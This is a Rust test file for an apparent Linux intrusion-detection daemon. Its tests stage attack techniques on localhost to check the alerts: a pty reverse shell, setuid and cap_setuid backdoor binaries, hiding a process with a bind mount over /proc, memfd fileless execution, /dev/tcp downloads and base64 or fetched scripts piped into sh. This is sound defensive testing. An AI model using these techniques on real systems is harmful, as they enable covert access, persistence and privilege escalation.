    assert!(!asker.is_empty(), "setuid(0) as nobody was not refused: {nobody:?}");

    let mut disguised = Command::new("bash")
        .args(["-c", "exec -a '[kworker/0:9]' sleep 0"])
        .spawn()
        .expect("bash");
    let disguised_pid = disguised.id().to_string();
    assert!(disguised.wait().expect("wait").success());

    let dir = scratch("setuid");
    let (plain, backdoor) = (copy_bin("/usr/bin/true", &dir, "plain"), copy_bin("/usr/bin/true", &dir, "sh"));
    let mut chmods = vec![];
    for (mode, path) in [("755", &plain), ("u+s", &backdoor)] {
        let mut chmod = Command::new("chmod").arg(mode).arg(path).spawn().expect("chmod");
        chmods.push(chmod.id().to_string());
        assert!(chmod.wait().expect("wait").success());
    }
    assert_eq!(fs::metadata(&backdoor).expect("stat").permissions().mode() & 0o7777, 0o4755);

    // An ordinary socket, then a packet socket (0x300: ETH_P_ALL in network order).
    let sniffer = Command::new("python3")
        .args(["-c", "import os, socket\nsocket.socket()\ns = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300)\nprint(os.getpid(), s.fileno())\n"])
        .output()
        .expect("python3");
    let printed = String::from_utf8_lossy(&sniffer.stdout).trim().to_owned();
    let (sniffer_pid, sniffer_fd) = printed.split_once(' ').unwrap_or_else(|| panic!("{sniffer:?}"));

    wait_for_alerts(&daemon, alerts_before + 5);
    let fake = entries(&cursor, "the fake-kernel-thread alert", |e| {
        f(e, "VIGIL_REASON") == "fake-kernel-thread" && f(e, "VIGIL_PID") == disguised_pid
    });
    if let Some(a) = fake.first() {
        assert_eq!(f(a, "VIGIL_DETAIL"), "argv[0] `[kworker/0:9]` passes for a kernel thread", "{a}");
    }
    let setuid = entries(&cursor, "the setuid-bit alert", |e| f(e, "VIGIL_REASON") == "setuid-bit");
    if let Some(a) = setuid.iter().find(|e| f(e, "VIGIL_PID") == chmods[1]) {
        assert_eq!(f(a, "VIGIL_DETAIL"), format!("fchmodat 4755 of {} (result 0)", backdoor.display()), "{a}");
    } else if cursor.is_some() {
        panic!("no setuid-bit alert for chmod u+s: {setuid:?}");
    }
    assert!(!setuid.iter().any(|e| f(e, "VIGIL_PID") == chmods[0]), "chmod 755 alerted: {setuid:?}");
    let raw = entries(&cursor, "the raw-socket alert", |e| {
        f(e, "VIGIL_REASON") == "raw-socket" && f(e, "VIGIL_PID") == sniffer_pid
    });
    if let Some(a) = raw.first() {
        // SOCK_RAW with the SOCK_CLOEXEC python adds; one alert, for the packet socket alone.
        assert_eq!(f(a, "VIGIL_DETAIL"), format!("AF_PACKET socket, type 0x80003, protocol 768 (fd {sniffer_fd})"), "{a}");
        assert_eq!(raw.len(), 1, "{raw:?}");
    }
    let scans = entries(&cursor, "the port-scan alert", |e| f(e, "VIGIL_REASON") == "port-scan");
    if let Some(a) = scans.iter().find(|e| f(e, "VIGIL_PID") == shell) {
        assert_eq!(f(a, "VIGIL_EVENT"), "alert", "{a}");
        let detail = f(a, "VIGIL_DETAIL");
        // All 32 refused, unless something took one of the freed ports meanwhile.
        assert!(detail.starts_with("connects to 32 ports of 127.0.0.1 within 10s: "), "{a}");
        assert!(detail.ends_with(" refused or unreachable"), "{a}");
    } else if cursor.is_some() {
        panic!("no port-scan alert for the sweeping shell {shell}: {scans:?}");
    }
    assert_eq!(scans.len(), 1, "one scan, one alert, and none for the busy client: {scans:?}");
    let denied = entries(&cursor, "the root-denied alert", |e| {
        f(e, "VIGIL_REASON") == "root-denied" && f(e, "VIGIL_PID") == asker
    });
    if let Some(a) = denied.first() {
        assert_eq!(
            f(a, "VIGIL_DETAIL"),
            "setuid(0) by uid 65534 (euid 65534, gid 65534, egid 65534) refused (result -1)",
            "{a}"
        );
    }
    drop(daemon);
}

/// File capabilities that reach root (`setcap cap_setuid+ep`) are alerted and a ping-like
/// `cap_net_raw` is not; ASLR's setting written by a shell's `echo` is alerted, vm.swappiness
/// and a read of core_pattern are not; an empty directory bind-mounted over a process's /proc directory
/// (in a private mount namespace, so the host's /proc is untouched) hides it from ps there and
/// is alerted with the pid it covers, and the same bind mount onto a scratch directory is not.
#[test]
fn a_root_capability_and_a_mount_over_a_process_are_alerted_and_their_lookalikes_are_not() {
    let test = "a_root_capability_and_a_mount_over_a_process_are_alerted_and_their_lookalikes_are_not";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let daemon = Daemon::start("pathcalls", &[]);
    let alerts_before = daemon.status()["response"]["alerts"].as_u64().unwrap_or(0);

    let dir = scratch("pathcalls");
    let (ping, backdoor) = (copy_bin("/usr/bin/true", &dir, "ping"), copy_bin("/usr/bin/true", &dir, "py"));
    let mut setcaps = vec![];
    for (caps, path) in [("cap_net_raw+ep", &ping), ("cap_setuid+ep", &backdoor)] {
        let mut setcap = Command::new("setcap").arg(caps).arg(path).spawn().expect("setcap");
        setcaps.push(setcap.id().to_string());
        assert!(setcap.wait().expect("wait").success(), "setcap {caps}");
    }
    let getcap = Command::new("getcap").arg(&backdoor).output().expect("getcap");
    assert!(String::from_utf8_lossy(&getcap.stdout).contains("cap_setuid=ep"), "{getcap:?}");

    let victim = Command::new("sleep").arg("60").spawn().expect("sleep");
    let pid = victim.id();
    let _reap = Reap(victim);
    let (empty, elsewhere) = (dir.join("empty"), dir.join("elsewhere"));
    fs::create_dir_all(&empty).expect("empty dir");
    fs::create_dir_all(&elsewhere).expect("scratch mount point");
    let script = format!(
        "mount --bind {e} {o} && mount --bind {e} /proc/{pid} && ls -A /proc/{pid} | wc -l",
        e = empty.display(),
        o = elsewhere.display(),
    );
    let hide = Command::new("unshare")
        .args(["-m", "--propagation", "private", "sh", "-c", &script])
        .output()
        .expect("unshare");
    assert_eq!(String::from_utf8_lossy(&hide.stdout).trim(), "0", "the pid was not hidden: {hide:?}");
    assert!(fs::read_dir(format!("/proc/{pid}")).expect("host /proc").count() > 0);

    // ASLR's setting written back unchanged by a shell's `echo` (no exec to see), next to the
    // same for vm.swappiness, which is no defence, and a read of core_pattern.
    let settings = Command::new("sh")
        .args([
            "-c",
            "for s in kernel/randomize_va_space vm/swappiness; do v=$(cat /proc/sys/$s) && echo \"$v\" > /proc/sys/$s || exit 1; done; \
             cat /proc/sys/kernel/core_pattern >/dev/null && echo $$",
        ])
        .output()
        .expect("sh");
    let setter = String::from_utf8_lossy(&settings.stdout).trim().to_owned();
    assert!(settings.status.success() && !setter.is_empty(), "{settings:?}");

    wait_for_alerts(&daemon, alerts_before + 3);
    let changed = entries(&cursor, "the kernel-setting alert", |e| f(e, "VIGIL_REASON") == "kernel-setting-changed");
    if cursor.is_some() {
        let mine: Vec<String> = changed.iter().filter(|e| f(e, "VIGIL_PID") == setter).map(|e| f(e, "VIGIL_DETAIL")).collect();
        assert_eq!(mine.len(), 1, "ASLR's write alone: {changed:?}");
        assert!(mine[0].contains(" of /proc/sys/kernel/randomize_va_space for write (fd "), "{mine:?}");
    }
    let caps = entries(&cursor, "the file-capability alert", |e| f(e, "VIGIL_REASON") == "file-capability");
    if let Some(a) = caps.iter().find(|e| f(e, "VIGIL_PID") == setcaps[1]) {
        assert_eq!(
            f(a, "VIGIL_DETAIL"),
            format!(
                "setxattr of security.capability on {}: cap_setuid=ep (root-equivalent: cap_setuid) (result 0)",
                backdoor.display()
            ),
            "{a}"
        );
    } else if cursor.is_some() {
        panic!("no file-capability alert for cap_setuid: {caps:?}");
    }
    assert!(!caps.iter().any(|e| f(e, "VIGIL_PID") == setcaps[0]), "cap_net_raw alerted: {caps:?}");
    let hidden = entries(&cursor, "the process-hidden alert", |e| f(e, "VIGIL_REASON") == "process-hidden");
    let onto = format!("mount onto /proc/{pid} (flags 0x1000: MS_BIND) covers pid {pid} (result 0)");
    if cursor.is_some() {
        assert!(hidden.iter().any(|e| f(e, "VIGIL_DETAIL") == onto), "no `{onto}`: {hidden:?}");
        assert_eq!(hidden.len(), 1, "only the mount onto /proc: {hidden:?}");
        assert!(hidden.iter().all(|e| f(e, "VIGIL_EXE") == "/usr/bin/mount"), "{hidden:?}");
    }
    drop(daemon);
}

/// A memfd exec'd through `/proc/self/fd/N` and another through fexecve (`/dev/fd/N`), each
/// running `true`, which is gone before anything could read its `/proc/PID/exe`: the kernel
/// names the image a memfd at the exec, and both are alerted as fileless; a copy of `true`
/// exec'd from a file the same way is not.
#[test]
fn a_fileless_exec_over_in_a_moment_is_alerted_and_a_file_exec_through_its_fd_is_not() {
    let test = "a_fileless_exec_over_in_a_moment_is_alerted_and_a_file_exec_through_its_fd_is_not";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let daemon = Daemon::start("fileless", &[]);
    let alerts_before = daemon.status()["response"]["alerts"].as_u64().unwrap_or(0);
    let dir = scratch("fileless");
    let on_disk = copy_bin("/usr/bin/true", &dir, "on-disk");
    // Each child prints its pid, then becomes `true` by one of the three routes.
    let run = |how: &str| -> String {
        let code = format!(
            "import os, sys\n\
             how = {how:?}\n\
             if how == 'file':\n    fd = os.open({path:?}, os.O_RDONLY)\n\
             else:\n    fd = os.memfd_create('vigil-payload')\n    os.write(fd, open('/usr/bin/true', 'rb').read())\n\
             print(os.getpid(), flush=True)\n\
             if how == 'fexecve':\n    os.execve(fd, ['true'], {{}})\n\
             else:\n    os.execv(f'/proc/self/fd/{{fd}}', ['true'])\n",
            path = on_disk.display().to_string()
        );
        let out = Command::new("python3").args(["-c", &code]).output().expect("python3");
        assert!(out.status.success(), "{how}: {out:?}");
        String::from_utf8_lossy(&out.stdout).trim().to_owned()
    };
    let (by_path, by_fd, file) = (run("proc-fd"), run("fexecve"), run("file"));

    wait_for_alerts(&daemon, alerts_before + 2);
    let fileless = entries(&cursor, "the fileless-exec alerts", |e| f(e, "VIGIL_REASON") == "fileless-exec");
    if cursor.is_some() {
        for pid in [&by_path, &by_fd] {
            let a = fileless.iter().find(|e| f(e, "VIGIL_PID") == *pid);
            let a = a.unwrap_or_else(|| panic!("no fileless-exec alert for pid {pid}: {fileless:?}"));
            assert_eq!(f(a, "VIGIL_EXE"), "/memfd:vigil-payload (deleted)", "{a}");
        }
        assert!(!fileless.iter().any(|e| f(e, "VIGIL_PID") == file), "a file exec'd through its fd: {fileless:?}");
    }
    drop(daemon);
}

/// The reverse shell that exec's its shell on a pty (python's `pty.spawn` after dup2'ing a
/// socket onto its own stdio): the shell's stdio is a terminal, but the exec record carries its
/// parent's, and the shipped default quarantines the shell (alerted in monitor mode).
#[test]
fn a_pty_reverse_shell_is_seen_through_its_relay() {
    let test = "a_pty_reverse_shell_is_seen_through_its_relay";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let daemon = Daemon::start("pty-relay", &[]);
    let listener = TcpListener::bind("127.0.0.1:0").expect("listener");
    let port = listener.local_addr().expect("addr").port();
    let script = format!(
        "import os, pty, socket\n\
         s = socket.create_connection(('127.0.0.1', {port}))\n\
         for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\n\
         pty.spawn('/bin/sh')\n"
    );
    let relay = Reap(Command::new("python3").args(["-c", &script]).spawn().expect("python3"));
    let relay_pid = relay.0.id().to_string();
    let (mut conn, _) = listener.accept().expect("accept");
    conn.set_read_timeout(Some(Duration::from_secs(5))).expect("timeout");
    std::io::Write::write_all(&mut conn, b"echo relayed-$((6*7)); exit\n").expect("send");
    let mut seen = String::new();
    let mut buf = [0u8; 512];
    while !seen.contains("relayed-42") {
        match conn.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => seen.push_str(&String::from_utf8_lossy(&buf[..n])),
        }
    }
    assert!(seen.contains("relayed-42"), "the shell ran on the pty: {seen:?}");

    let found = entries(&cursor, "the shell-under-socket-relay alert", |e| {
        f(e, "VIGIL_REASON") == "shell-under-socket-relay" && f(e, "VIGIL_PPID") == relay_pid
    });
    if let Some(a) = found.first() {
        assert_eq!(f(a, "VIGIL_EVENT"), "alert", "{a}");
        assert!(f(a, "MESSAGE").contains("would quarantine"), "{a}");
    }
    drop(relay);
    drop(daemon);
}

/// Mass encryption's shape on the real kernel: a shell loop that writes `f.txt.locked` beside
/// each of 40 files and removes `f.txt` (one `cp` and one `rm` per file, as scripts do) is
/// alerted on at the shell; `gzip -r` of 40 files and an `rm -rf` of 200 are not.
#[test]
fn mass_replacement_is_alerted_at_the_script_and_compression_and_removal_are_not() {
    let test = "mass_replacement_is_alerted_at_the_script_and_compression_and_removal_are_not";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let dir = scratch("ransom");
    // Names differ between the three: pairs are made on file names, not directories.
    for (sub, name, n) in [("victim", "f", 40), ("logs", "log", 40), ("junk", "junk", 200)] {
        fs::create_dir_all(dir.join(sub)).expect("dir");
        for i in 0..n {
            fs::write(dir.join(sub).join(format!("{name}{i}.txt")), format!("record {i}\n")).expect("file");
        }
    }
    let daemon = Daemon::start("ransom", &[]);
    let alerts_before = daemon.status()["response"]["alerts"].as_u64().unwrap_or(0);
    let run = |cmd: &mut Command| {
        let mut child = cmd.spawn().expect("spawn");
        let pid = child.id().to_string();
        assert!(child.wait().expect("wait").success(), "{cmd:?}");
        pid
    };
    let gzip = run(Command::new("gzip").arg("-r").arg(dir.join("logs")));
    let rm = run(Command::new("rm").arg("-rf").arg(dir.join("junk")));
    let script = format!(
        "cd {} && for f in *.txt; do cp \"$f\" \"$f.locked\" && rm \"$f\"; done",
        dir.join("victim").display()
    );
    let shell = run(Command::new("bash").args(["-c", &script]));
    assert_eq!(fs::read_dir(dir.join("victim")).expect("victim").count(), 40);

    wait_for_alerts(&daemon, alerts_before + 1);
    let found = entries(&cursor, "the mass-file-replacement alert", |e| {
        f(e, "VIGIL_REASON") == "mass-file-replacement"
    });
    if let Some(a) = found.first() {
        assert_eq!(f(a, "VIGIL_PID"), shell, "the loop's shell, parent of every cp and rm: {a}");
        let detail = f(a, "VIGIL_DETAIL");
        assert!(
            detail.starts_with("16 files replaced by names with an extension added within 30s, e.g. f"),
            "{a}"
        );
        assert_eq!(found.len(), 1, "gzip and rm -rf are not replacements: {found:?}");
        assert!(![gzip, rm].contains(&f(a, "VIGIL_PID")));
    }
    drop(daemon);
}

/// The shipped default's dropper rule, on images the kernel describes at exec: a program copied
/// under a dot name in a temporary directory and run at once is alerted on with its age; the
/// same program under a plain name, and a hidden one whose change lies outside the rule's five
/// minutes, are not.
#[test]
fn a_hidden_program_fresh_in_tmp_is_alerted_with_its_age() {
    let test = "a_hidden_program_fresh_in_tmp_is_alerted_with_its_age";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let dir = scratch("dropper");
    assert!(dir.starts_with("/tmp"), "the rule watches /tmp: {}", dir.display());
    // ctime cannot be set back, so "changed long ago" is a rule whose window is shorter than
    // the file's age: a drop-in rule of 1 s on a plain name, run 2 s after the copy.
    let policy_d = dir.join("policy.d");
    fs::create_dir_all(&policy_d).expect("policy.d");
    fs::write(policy_d.join("00-monitor.toml"), "mode = \"monitor\"\n").expect("monitor");
    let settled = copy_bin("/usr/bin/true", &dir, "settled");
    fs::write(
        policy_d.join("50-settled.toml"),
        format!(
            "[[rule.exec]]\nname = \"settled-one-second\"\naction = \"alert\"\npath = [\"{}\"]\nchanged_within = 1\n",
            settled.display()
        ),
    )
    .expect("drop-in");
    let policy_dir = policy_d.display().to_string();
    let daemon = Daemon::start("dropper", &["--policy-dir", &policy_dir]);
    let alerts_before = daemon.status()["response"]["alerts"].as_u64().unwrap_or(0);

    std::thread::sleep(Duration::from_secs(2));
    let plain = copy_bin("/usr/bin/true", &dir, "plain");
    let hidden = copy_bin("/usr/bin/true", &dir.join(".cache"), ".kworker");
    let mut pids = vec![];
    for path in [&settled, &plain, &hidden] {
        let mut child = Command::new(path).spawn().expect("spawn");
        pids.push(child.id().to_string());
        assert!(child.wait().expect("wait").success());
    }

    wait_for_alerts(&daemon, alerts_before + 1);
    let found = entries(&cursor, "the hidden-fresh-binary-in-tmp alert", |e| {
        f(e, "VIGIL_REASON") == "hidden-fresh-binary-in-tmp" && f(e, "VIGIL_PID") == pids[2]
    });
    if let Some(a) = found.first() {
        assert_eq!(f(a, "VIGIL_EXE"), hidden.display().to_string(), "{a}");
        let detail = f(a, "VIGIL_DETAIL");
        let secs: u64 = detail
            .strip_prefix("image changed ")
            .and_then(|s| s.strip_suffix("s before the exec"))
            .and_then(|s| s.parse().ok())
            .unwrap_or_else(|| panic!("detail: {a}"));
        assert!(secs <= 2, "copied just before it ran: {a}");
    }
    // The hidden one ran last: by its alert, anything about the other two is in the journal.
    drop(daemon);
    if let Some(c) = &cursor {
        let others = read_vigil_entries(c, Duration::from_secs(1), |e| {
            f(e, "VIGIL_PID") == pids[0] || f(e, "VIGIL_PID") == pids[1]
        });
        assert!(others.is_empty(), "settled and plain programs alerted: {others:?}");
    }
}

/// Programs a network client wrote are alerted by the shipped `downloaded-program-run`,
/// whatever their name and place, naming the downloader: one a Python client wrote as it read
/// its socket, one `cat` wrote from the `/dev/tcp` connection of the bash it was forked from.
/// A copy `cp` made runs without an alert, though the exec names its writer all the same.
#[test]
fn a_downloaded_program_is_alerted_with_its_downloader_and_a_copy_is_not() {
    let test = "a_downloaded_program_is_alerted_with_its_downloader_and_a_copy_is_not";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let dir = scratch("download");
    let daemon = Daemon::start("download", &[]);
    let alerts_before = daemon.status()["response"]["alerts"].as_u64().unwrap_or(0);

    let (_server, port) = serve_twice(Path::new("/usr/bin/true"));
    let by_python = dir.join("update");
    let by_shell = dir.join("sub/agent");
    let copied = dir.join("copied");
    fs::create_dir_all(dir.join("sub")).expect("dir");
    let python = Command::new("/usr/bin/python3")
        .args(["-c", "import socket, sys\nc = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\nwith open(sys.argv[2], 'wb') as f:\n    while (b := c.recv(65536)):\n        f.write(b)\n"])
        .args([&port, by_python.to_str().expect("utf-8")])
        .spawn()
        .expect("python client");
    let python_pid = python.id();
    assert!(Reap(python).0.wait().expect("wait").success());
    let shell = Command::new("bash")
        .args(["-c", "exec 3<>/dev/tcp/127.0.0.1/$0; cat <&3 >\"$1\"", &port])
        .arg(&by_shell)
        .spawn()
        .expect("bash client");
    let shell_pid = shell.id();
    assert!(Reap(shell).0.wait().expect("wait").success());
    assert!(Command::new("cp").arg("/usr/bin/true").arg(&copied).status().expect("cp").success());
    let mut pids = vec![];
    for path in [&by_python, &by_shell, &copied] {
        fs::set_permissions(path, fs::Permissions::from_mode(0o755)).expect("chmod");
        let mut child = Command::new(path).spawn().expect("spawn");
        pids.push(child.id().to_string());
        assert!(child.wait().expect("wait").success(), "{} is /usr/bin/true", path.display());
    }

    wait_for_alerts(&daemon, alerts_before + 2);
    let alert = |pid: &str| {
        let found = entries(&cursor, "the downloaded-program-run alert", |e| {
            f(e, "VIGIL_REASON") == "downloaded-program-run" && f(e, "VIGIL_PID") == pid
        });
        found.first().map(|e| f(e, "VIGIL_DETAIL"))
    };
    if let Some(detail) = alert(&pids[0]) {
        assert!(
            detail.contains("by /usr/bin/python3") && detail.contains(&format!("(pid {python_pid}), which made or accepted an internet connection")),
            "{detail}"
        );
    }
    if let Some(detail) = alert(&pids[1]) {
        assert!(detail.contains(&format!(", a child of /usr/bin/bash (pid {shell_pid})")), "{detail}");
    }
    let (_, events) = daemon.stop();
    // The copy's writer was seen, so its silence is cp's lack of a connection, not blindness.
    let exec_of = |pid: &str| {
        events
            .iter()
            .find(|e| e["type"] == "exec" && e["pid"].as_u64().map(|p| p.to_string()).as_deref() == Some(pid))
            .unwrap_or_else(|| panic!("no exec event for pid {pid}"))
            .clone()
    };
    assert_eq!(exec_of(&pids[0])["image_writer_pid"].as_u64(), Some(python_pid as u64));
    assert!(exec_of(&pids[2])["image_writer_pid"].as_u64().is_some_and(|p| p != 0), "{}", exec_of(&pids[2]));
    if let Some(c) = &cursor {
        let copy = read_vigil_entries(c, Duration::from_secs(1), |e| f(e, "VIGIL_PID") == pids[2]);
        assert!(copy.is_empty(), "the copy was alerted: {copy:?}");
    }
}

/// Scripts a network client wrote and an interpreter runs are alerted by the shipped
/// `downloaded-program-run`, naming the script and its downloader: `sh x.sh` from the script's
/// directory, `python3 /abs/x.py`, and a script run through its `#!` line. Quiet: a copy `cp`
/// made, run the same way; inline code given with the script's name as an argument; and a
/// downloaded script run by its name from a `bin` directory (an installed command).
#[test]
fn a_downloaded_script_run_by_its_interpreter_is_alerted_and_a_copy_or_installed_command_is_not() {
    let test = "a_downloaded_script_run_by_its_interpreter_is_alerted_and_a_copy_or_installed_command_is_not";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let dir = scratch("script-download");
    fs::create_dir_all(dir.join("bin")).expect("bin");
    let sh_source = dir.join("served.sh");
    let py_source = dir.join("served.py");
    // The scripts do something for a moment, as real ones do: vigil looks a script up through
    // its interpreter's /proc entry, and one over before vigil handles its exec is not found.
    fs::write(&sh_source, "#!/bin/sh\nsleep 0.5\n").expect("sh script");
    fs::write(&py_source, "import time\ntime.sleep(0.5)\n").expect("py script");
    let daemon = Daemon::start("script-download", &[]);
    let alerts_before = daemon.status()["response"]["alerts"].as_u64().unwrap_or(0);
    let (_sh_server, sh_port) = serve(&sh_source, 3);
    let (_py_server, py_port) = serve(&py_source, 1);
    let fetch = |port: &str, to: &Path| {
        let mut c = Command::new("/usr/bin/python3")
            .args(["-c", "import socket, sys\nc = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\nwith open(sys.argv[2], 'wb') as f:\n    while (b := c.recv(65536)):\n        f.write(b)\n"])
            .arg(port)
            .arg(to)
            .spawn()
            .expect("fetcher");
        let pid = c.id();
        assert!(c.wait().expect("wait").success());
        fs::set_permissions(to, fs::Permissions::from_mode(0o755)).expect("chmod");
        pid
    };
    let run = |program: &str, args: &[&str]| {
        let mut child = Command::new(program).args(args).current_dir(&dir).spawn().expect(program);
        let pid = child.id().to_string();
        assert!(child.wait().expect(program).success(), "{program} {args:?}");
        pid
    };
    let sh_fetcher = fetch(&sh_port, &dir.join("x.sh"));
    let by_sh = run("sh", &["x.sh"]);
    let inline = run("sh", &["-c", "exit 0", "x.sh"]);
    let py_script = dir.join("x.py");
    fetch(&py_port, &py_script);
    let by_python = run("/usr/bin/python3", &[py_script.to_str().unwrap()]);
    fetch(&sh_port, &dir.join("run.sh"));
    let by_shebang = run("./run.sh", &[]);
    let installed = dir.join("bin/tool");
    fetch(&sh_port, &installed);
    let by_name = run(installed.to_str().unwrap(), &[]);
    fs::copy(&sh_source, dir.join("copy.sh")).expect("copy");
    let copy = run("sh", &["copy.sh"]);

    wait_for_alerts(&daemon, alerts_before + 3);
    drop(daemon);
    for (pid, script) in [(&by_sh, "x.sh".to_string()), (&by_python, py_script.display().to_string()), (&by_shebang, "./run.sh".to_string())] {
        let found = entries(&cursor, &format!("the downloaded-program-run alert of {script}"), |e| {
            f(e, "VIGIL_REASON") == "downloaded-program-run" && f(e, "VIGIL_PID") == *pid
        });
        if let Some(a) = found.first() {
            assert!(f(a, "VIGIL_DETAIL").starts_with(&format!("script {script} written ")), "{a}");
        }
        if script == "x.sh" && let Some(a) = found.first() {
            assert!(f(a, "VIGIL_DETAIL").contains(&format!("by /usr/bin/python3 (pid {sh_fetcher}), which made")), "{a}");
        }
    }
    if let Some(c) = &cursor {
        let quiet = incidents_on(c, "downloaded-program-run", &[&inline, &by_name, &copy]);
        assert!(quiet.is_empty(), "{quiet:?}");
    }
}

/// `curl URL | sh` live: a script fetched over TCP by a Python client and piped into `sh` is
/// alerted at the shell as `download-piped-to-shell`, naming the fetcher, also when the shell
/// runs under `timeout`; a local pipe into `sh`, and a fetch piped into `sh -c` (which runs its
/// argument, not the pipe), are not.
/// Runs each line with `bash -c`, one after the other; their bash pids.
fn run_pipelines(lines: &[String]) -> Vec<u32> {
    lines
        .iter()
        .map(|line| {
            let child = Command::new("bash").args(["-c", line]).spawn().expect("pipeline");
            let pid = child.id();
            assert!(Reap(child).0.wait().expect("wait").success(), "{line}");
            pid
        })
        .collect()
}

/// The pid of the `sh` exec'd under `parent` (a pipeline's member, by the shell that ran it).
fn sh_under(events: &[Value], parent: u32) -> String {
    events
        .iter()
        .find(|e| e["type"] == "exec" && e["parent_pid"].as_u64() == Some(u64::from(parent)) && e["argv"][0] == "sh")
        .and_then(|e| e["pid"].as_u64())
        .unwrap_or_else(|| panic!("no sh exec under {parent}"))
        .to_string()
}

/// `echo <base64> | base64 -d | sh` is alerted at the shell with the decoder named; the same
/// decoder writing a file or feeding `wc`, and a plain `echo | sh`, are not.
#[test]
fn a_decoded_payload_piped_into_a_shell_is_alerted_and_other_decoding_is_not() {
    let test = "a_decoded_payload_piped_into_a_shell_is_alerted_and_other_decoding_is_not";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let dir = scratch("decoded");
    let marker = dir.join("decoded-script-ran");
    let daemon = Daemon::start("decoded", &[]);
    let alerts_before = daemon.status()["response"]["alerts"].as_u64().unwrap_or(0);

    let encoded = |text: &str| {
        let out = Command::new("base64").arg("-w0").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().and_then(|mut c| {
            std::io::Write::write_all(c.stdin.as_mut().expect("stdin"), text.as_bytes())?;
            drop(c.stdin.take());
            c.wait_with_output()
        });
        String::from_utf8(out.expect("base64").stdout).expect("ascii")
    };
    let payload = encoded(&format!("touch {}\n", marker.display()));
    let lines = [
        format!("echo {payload} | base64 -d | sh"),
        format!("echo {payload} | base64 -d > {}", dir.join("decoded.txt").display()),
        format!("echo {payload} | base64 -d | wc -c >/dev/null"),
        "echo true | sh".to_owned(),
    ];
    let pipelines = run_pipelines(&lines);
    assert!(marker.exists(), "the decoded script did not run");

    wait_for_alerts(&daemon, alerts_before + 1);
    let (_, events) = daemon.stop();
    let decoded = sh_under(&events, pipelines[0]);
    let found = entries(&cursor, "the decoded-payload-to-shell alert", |e| {
        f(e, "VIGIL_REASON") == "decoded-payload-to-shell" && f(e, "VIGIL_PID") == decoded
    });
    if let Some(a) = found.first() {
        let detail = f(a, "VIGIL_DETAIL");
        assert!(
            detail.contains(" reads its program from a pipe while /usr/bin/base64 (pid ")
                && detail.ends_with("decodes an encoded input into a pipe"),
            "{a}"
        );
    }
    if let Some(c) = &cursor {
        let plain = sh_under(&events, pipelines[3]);
        let others = read_vigil_entries(c, Duration::from_secs(1), |e| {
            f(e, "VIGIL_REASON") == "decoded-payload-to-shell" && f(e, "VIGIL_PID") != decoded
                || f(e, "VIGIL_PID") == plain
        });
        assert!(others.is_empty(), "other decoding or a plain pipe was alerted: {others:?}");
    }
}

#[test]
fn a_download_piped_into_a_shell_is_alerted_and_local_pipes_are_not() {
    let test = "a_download_piped_into_a_shell_is_alerted_and_local_pipes_are_not";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let dir = scratch("piped");
    let marker = dir.join("fetched-script-ran");
    let daemon = Daemon::start("piped", &[]);
    let alerts_before = daemon.status()["response"]["alerts"].as_u64().unwrap_or(0);

    let script = dir.join("script.sh");
    fs::write(&script, format!("touch {}\n", marker.display())).expect("script");
    let (_server, port) = serve(&script, 3);
    let fetch = format!(
        "/usr/bin/python3 -c \"import socket, sys; c = socket.create_connection(('127.0.0.1', {port})); sys.stdout.buffer.write(c.recv(65536))\""
    );
    let pipelines = run_pipelines(&[
        format!("{fetch} | sh"),
        "echo true | sh".to_owned(),
        format!("{fetch} | sh -c 'cat >/dev/null'"),
        // The shell started through a wrapper that forks it: a generation lower.
        format!("{fetch} | timeout 20 sh; true"),
    ]);
    assert!(marker.exists(), "the fetched script did not run");

    wait_for_alerts(&daemon, alerts_before + 2);
    let (_, events) = daemon.stop();
    // Each pipeline's `sh`, by its parent, the `bash -c` that ran the line.
    let sh_of = |bash: u32| sh_under(&events, bash);
    let timeout = events
        .iter()
        .find(|e| e["type"] == "exec" && e["parent_pid"].as_u64() == Some(u64::from(pipelines[3])) && e["argv"][0] == "timeout")
        .and_then(|e| e["pid"].as_u64())
        .expect("the timeout wrapper's exec");
    for fetched in [sh_of(pipelines[0]), sh_under(&events, timeout as u32)] {
        let found = entries(&cursor, &format!("the download-piped-to-shell alert of {fetched}"), |e| {
            f(e, "VIGIL_REASON") == "download-piped-to-shell" && f(e, "VIGIL_PID") == fetched
        });
        if let Some(a) = found.first() {
            let detail = f(a, "VIGIL_DETAIL");
            assert!(
                detail.contains("reads its program from a pipe while /usr/bin/python3")
                    && detail.contains("made or accepted an internet connection"),
                "{a}"
            );
        }
    }
    if let Some(c) = &cursor {
        let quiet = [sh_of(pipelines[1]), sh_of(pipelines[2])];
        let others = incidents_on(c, "download-piped-to-shell", &quiet);
        assert!(others.is_empty(), "a local pipe or sh -c was alerted: {others:?}");
    }
}

/// `sh -c "$(curl URL)"` live: a script fetched over TCP by a Python client into its parent
/// shell's command substitution, then run as `sh -c`'s argument, is alerted at that `sh` as
/// `download-piped-to-shell`, naming the fetcher, whether the shell forks it or execs it in its
/// own place (a last command). A fetched value used in a one-line `sh -c`, a fetch piped into
/// `grep` before an inline Python script, and a local file substituted into `sh -c` are not.
#[test]
fn a_download_run_through_command_substitution_is_alerted_and_a_fetched_value_is_not() {
    let test = "a_download_run_through_command_substitution_is_alerted_and_a_fetched_value_is_not";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let dir = scratch("substituted");
    let ran = dir.join("ran");
    let daemon = Daemon::start("substituted", &[]);
    let alerts_before = daemon.status()["response"]["alerts"].as_u64().unwrap_or(0);

    let script = dir.join("script.sh");
    fs::write(&script, format!("#!/bin/sh\necho ran >> {}\n", ran.display())).expect("script");
    let (_server, port) = serve(&script, 5);
    let fetch = format!(
